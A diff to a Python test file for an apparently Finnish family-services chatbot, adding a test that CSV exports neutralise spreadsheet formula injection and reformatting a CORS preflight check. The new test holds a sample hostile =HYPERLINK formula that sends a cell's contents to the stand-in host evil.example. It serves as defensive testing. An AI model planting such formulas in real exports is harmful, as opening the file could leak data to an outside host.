@@ -285,6 +285,25 @@ def test_the_unanswered_export_as_csv(client, auth, staff_url):
     assert [r[5] for r in rows[1:]] == ["hei, 'lainaus' ja pilkku", "Passi [puhelin]"]
 
 
+def test_a_question_written_as_a_formula_comes_out_neutralised_in_the_csv(client, auth, staff_url):
+    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"Avaa tästä")'
+    now = datetime.now(timezone.utc)
+    with new_session(staff_url) as s, s.begin():
+        for n, text in enumerate(
+            [hostile, "@SUM(1+1)", "-5 astetta, onko kerho auki", "onko kerho auki", "-12"]
+        ):
+            _answer(s, f"f{n}", "out_of_scope", now - timedelta(minutes=n), text, "out_of_scope")
+    response = client.get("/insights/unanswered.csv", headers=auth["viewer"])
+    texts = [r[5] for r in csv.reader(io.StringIO(response.text))][1:]
+    assert texts == [
+        "'" + hostile,
+        "'@SUM(1+1)",
+        "'-5 astetta, onko kerho auki",
+        "onko kerho auki",  # normal text as it was
+        "-12",  # a number stays a number
+    ]
+
+
 def test_a_viewer_reads_the_weekly_figures(client, auth, staff_url):
     _api_rows(staff_url)
     response = client.get("/insights/weekly?weeks=2", headers=auth["viewer"])
@@ -307,8 +326,11 @@ def test_a_family_rates_an_answer_without_signing_in(client, staff_url):
         (rating,) = s.scalars(select(Rating)).all()
     assert rating.helpful is False and rating.services == ["mikkeli-neuvola"] and rating.language == "sv"
     assert rating.conversation == conversation_key("web-abc")
+
     def preflight(origin: str):  # type: ignore[no-untyped-def]
-        return client.options("/feedback", headers={"Origin": origin, "Access-Control-Request-Method": "POST"})
+        return client.options(
+            "/feedback", headers={"Origin": origin, "Access-Control-Request-Method": "POST"}
+        )
 
     # PK_CORS_ORIGINS (default: the demo page's own origin) may post; another site may not.
     allowed = preflight("http://localhost:8000")
